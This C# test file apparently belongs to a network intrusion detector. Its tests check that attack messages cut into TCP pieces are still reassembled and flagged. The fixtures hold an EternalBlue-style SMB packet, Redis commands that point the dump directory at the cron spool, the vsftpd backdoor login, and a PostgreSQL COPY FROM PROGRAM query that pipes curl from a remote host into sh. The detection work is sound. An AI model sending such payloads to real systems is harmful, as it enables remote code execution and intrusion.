using System.Buffers.Binary;
using System.Runtime.CompilerServices;
using System.Text;
using NetHawk.Capture.Peek;
using NetHawk.Core.Packets;
using NetHawk.Core.Peek;

namespace NetHawk.Tests.Capture;

/// <summary>Messages of protocols that frame them, cut small by whoever says them.</summary>
public sealed class MessagePiecesTests
{
    private readonly PayloadPeek _peek = new();
    private PeekState _state;
    private uint _next = 1;

    private PeekInfo? Say(ReadOnlySpan<byte> bytes, uint at, ushort port) => _peek.Look(ref _state, false, IpProtocol.Tcp, 40_000, port, bytes, 0, at, 1);

    /// <summary>What is read of messages that are each cut into pieces.</summary>
    private List<PeekInfo> SayCut(int size, ushort port, params byte[][] messages)
    {
        var read = new List<PeekInfo>();
        foreach (byte[] message in messages)
        {
            for (int at = 0; at < message.Length; at += size)
                if (Say(message.AsSpan(at, Math.Min(size, message.Length - at)), _next + (uint)at, port) is { } info) read.Add(info);
            _next += (uint)message.Length;
        }

        return read;
    }

    private static byte[] Text(string text) => Encoding.ASCII.GetBytes(text);

    private static byte[] Smb1(byte command, byte[] rest)
    {
        byte[] header = [0xFF, .. "SMB"u8, command, .. new byte[27], .. rest];
        return [0, 0, (byte)(header.Length >> 8), (byte)header.Length, .. header];
    }

    /// <summary>Trans2 with its setup word 0x0E (MS17-010).</summary>
    private static byte[] EternalBlue()
    {
        byte[] rest = new byte[60];
        rest[0] = 15;
        BinaryPrimitives.WriteUInt16LittleEndian(rest.AsSpan(29), 0x0E);
        return Smb1(0x32, rest);
    }

    private static byte[] Query(string sql) => [(byte)'Q', .. Length(sql.Length + 5), .. Text(sql), 0];

    private static byte[] Length(int value) => [(byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value];

    private static byte[] Redis(params string[] words) => Text($"*{words.Length}\r\n" + string.Concat(words.Select(w => $"${w.Length}\r\n{w}\r\n")));

    public static TheoryData<string, ushort, byte[][]> Exploits() => new()
    {
        { "eternalblue", 445, [Smb1(0x72, new byte[40]), EternalBlue()] },
        { "redis-write", 6379, [Redis("PING"), Redis("CONFIG", "SET", "dir", "/var/spool/cron")] },
        { "vsftpd-backdoor", 21, [Text("USER root:)\r\n")] },
    };

    [Theory]
    [MemberData(nameof(Exploits))]
    public void An_exploit_in_pieces_is_read_once(string name, ushort port, byte[][] messages)
    {
        foreach (int size in new[] { 5, 16, 64, 400 })
        {
            (_state, _next) = (new PeekState(), 1);
            if (port == 21) _peek.Look(ref _state, true, IpProtocol.Tcp, 40_000, port, "220 FTP ready\r\n"u8);
            Assert.Equal(name, Assert.IsType<Indicator>(Assert.Single(SayCut(size, port, messages))).Name);
        }
    }

    [Fact]
    public void A_command_to_a_database_in_pieces_is_read()
    {
        byte[] start = [0, 0, 0, 17, 0, 3, 0, 0, .. "user\0me\0\0"u8];
        byte[] copy = Query("COPY t FROM PROGRAM 'curl http://203.0.113.9/x | sh'");
        Assert.Contains(SayCut(4096, 5432, start, copy), i => i is Indicator);
        (_state, _next) = (new PeekState(), 1);
        Assert.Contains(SayCut(16, 5432, start, copy), i => i is Indicator);
    }

    /// <summary>Name and password are marked as they are in one piece, so that the same password sent again is the same.</summary>
    [Theory]
    [InlineData(3)]
    [InlineData(16)]
    public void A_log_in_in_pieces_is_marked_as_one_in_one_piece(int size)
    {
        LoginResult Try(int pieces)
        {
            (_state, _next) = (new PeekState(), 1);
            _peek.Look(ref _state, true, IpProtocol.Tcp, 40_000, 143, "* OK ready\r\n"u8);
            Assert.Empty(SayCut(pieces, 143, Text("a LOGIN anna Winter2026\r\n")));
            return Assert.IsType<LoginResult>(_peek.Look(ref _state, true, IpProtocol.Tcp, 40_000, 143, "a NO no\r\n"u8));
        }

        Assert.Equal(Try(100), Try(size));
    }

    /// <summary>What never passed here must not hide what comes after it.</summary>
    [Fact]
    public void A_message_of_which_a_piece_is_lost_does_not_swallow_the_next()
    {
        SayCut(400, 445, Smb1(0x72, new byte[40]));
        byte[] lost = EternalBlue();
        Assert.Null(Say(lost.AsSpan(0, 16), _next, 445));
        _next += (uint)lost.Length;
        Assert.IsType<Indicator>(Assert.Single(SayCut(400, 445, EternalBlue())));
    }

    /// <summary>Once somebody has cut a message, the pieces of his next ones may come in any order.</summary>
    [Fact]
    public void The_pieces_of_later_messages_may_be_exchanged()
    {
        SayCut(16, 445, Smb1(0x72, new byte[40]));
        byte[] message = EternalBlue();
        var read = new List<PeekInfo?>();
        foreach (int at in new[] { 48, 0, 16, 64, 32, 80 }) read.Add(Say(message.AsSpan(at, Math.Min(16, message.Length - at)), _next + (uint)at, 445));
        Assert.Single(read, i => i is Indicator { Name: "eternalblue" });
    }

    /// <summary>A length that no message has must not hide what has come.</summary>
    [Fact]
    public void What_has_come_of_a_message_that_claims_more_is_read()
    {
        byte[] message = EternalBlue();
        message[2] = 0x40;
        Assert.IsType<Indicator>(Assert.Single(SayCut(16, 445, Smb1(0x72, new byte[40]), message)));
    }

    /// <summary>Else whoever sends byte by byte makes each byte cost what a message costs.</summary>
    [Fact]
    public void A_message_that_comes_byte_by_byte_is_looked_at_only_as_it_grows()
    {
        var pieces = new RequestPieces();
        var state = new PeekState { Application = AppProtocol.PostgreSql, ForwardLooks = 2 };
        byte[] message = Query(new string('a', 1_800));
        int looks = 0, longest = 0;
        bool isWhole = false;
        for (int i = 0; i < message.Length; i++)
        {
            var said = pieces.Message(ref state, message.AsSpan(i, 1), message.AsSpan(i, 1), (uint)i + 1, begins: false, out isWhole);
            Assert.True(i + 1 - longest <= 2 + longest / 8, $"{longest} of {i + 1} bytes were looked at");
            if (said.IsEmpty) continue;
            looks++;
            longest = said.Length;
        }

        Assert.True(isWhole);
        Assert.Equal(message.Length, longest);
        Assert.InRange(looks, 20, 200);
    }

    [Theory]
    [InlineData(AppProtocol.Smb, new byte[] { 0, 0, 0, 4, 0xFE, (byte)'S', (byte)'M', (byte)'B' }, true)]
    [InlineData(AppProtocol.Smb, new byte[] { 0, 0, 0, 5, 0xFE, (byte)'S', (byte)'M', (byte)'B' }, false)]
    [InlineData(AppProtocol.Smb, new byte[] { 7, 7, 7, 7, 7, 7, 7, 7, 7 }, true)]
    [InlineData(AppProtocol.MySql, new byte[] { 2, 0, 0, 0, 3 }, false)]
    [InlineData(AppProtocol.MySql, new byte[] { 1, 0, 0, 0, 1 }, true)]
    [InlineData(AppProtocol.PostgreSql, new byte[] { (byte)'X', 0, 0, 0, 4 }, true)]
    [InlineData(AppProtocol.PostgreSql, new byte[] { (byte)'Q', 0, 0, 0, 9, 1 }, false)]
    [InlineData(AppProtocol.Tds, new byte[] { 1, 1, 0, 9, 0, 0, 1, 0 }, false)]
    [InlineData(AppProtocol.Ldap, new byte[] { 0x30, 5, 2, 1, 1, 0x42 }, false)]
    [InlineData(AppProtocol.Ldap, new byte[] { 0x30, 5, 2, 1, 1, 0x42, 0 }, true)]
    [InlineData(AppProtocol.DceRpc, new byte[] { 5, 0, 0, 3, 16, 0, 0, 0, 12, 0, 0, 0 }, true)]
    public void Where_a_message_ends_is_told_by_its_head(AppProtocol application, byte[] bytes, bool isWhole) => Assert.Equal(isWhole, MessageFrame.IsWhole(application, bytes));

    [Theory]
    [InlineData("*1\r\n$4\r\nPING\r\n", true)]
    [InlineData("*1\r\n$4\r\nPIN", false)]
    [InlineData("*2\r\n$4\r\nPING\r\n", false)]
    [InlineData("*2\r", false)]
    [InlineData("PING\r\n", true)]
    [InlineData("PI", false)]
    public void A_command_of_redis_ends_with_its_last_text(string said, bool isWhole) => Assert.Equal(isWhole, MessageFrame.IsWhole(AppProtocol.Redis, Text(said)));

    [Fact]
    public void Nothing_breaks_it()
    {
        var random = new Random(7);
        byte[] bytes = new byte[40];
        foreach (var application in Enum.GetValues<AppProtocol>())
        {
            for (int i = 0; i < 2_000; i++)
            {
                random.NextBytes(bytes);
                if (i % 2 == 0) bytes[0] = (byte)"*0QpA\0\u0005"[i / 2 % 7];
                if (i % 4 == 0) (bytes[1], bytes[2], bytes[3], bytes[4]) = ((byte)('1' + (i & 7)), 13, 10, (byte)'$');
                _ = MessageFrame.IsWhole(application, bytes.AsSpan(0, 1 + random.Next(39)));
            }
        }
    }

    /// <summary>One mark for all readers: another's is never taken for one's own, and room for it costs a flow nothing.</summary>
    [Fact]
    public void Each_reader_finds_its_own_mark_or_none()
    {
        foreach (var one in Enum.GetValues<PeekTurn>())
        {
            foreach (var other in Enum.GetValues<PeekTurn>())
            {
                var state = new PeekState();
                state.Turn(one) = 77;
                Assert.Equal(one == other ? 77 : 0, state.Held(other));
                Assert.Equal(one == other ? 77 : 0, state.Turn(other));
                Assert.Equal(one == other ? 77 : 0, state.Held(one));
            }
        }

        Assert.Equal(10, Unsafe.SizeOf<PeekState>());
    }
}
